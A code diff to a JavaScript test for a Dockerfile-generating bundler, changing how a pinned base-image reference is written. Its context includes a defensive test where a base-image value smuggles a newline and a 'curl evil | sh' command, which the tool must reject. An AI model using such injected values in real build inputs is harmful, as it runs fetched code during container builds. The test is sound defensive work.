@@ -202,7 +202,7 @@ test('the Dockerfile builds on the base image, copies and verifies the payload, 
     assert.equal(config.server.port, 8080);
 
     const custom = env.out('custom');
-    await env.bundle({ versions: ['2'], out: custom, baseImage: 'registry.example.com/ml/scoreline:0.1.0@sha256:' + 'a'.repeat(64) });
+    await env.bundle({ versions: ['2'], out: custom, baseImage: `registry.example.com/ml/scoreline:0.1.0@sha256:${'a'.repeat(64)}` });
     assert.match(readFileSync(join(custom, 'Dockerfile'), 'utf8'), /^FROM registry\.example\.com\/ml\/scoreline:0\.1\.0@sha256:a{64}$/m);
     await rejects(() => env.bundle({ versions: ['2'], out: env.out('evil'), baseImage: 'scoreline\nRUN curl evil | sh' }), 'BAD_REQUEST', /not a container image reference/);
     assert.equal(existsSync(env.out('evil')), false);
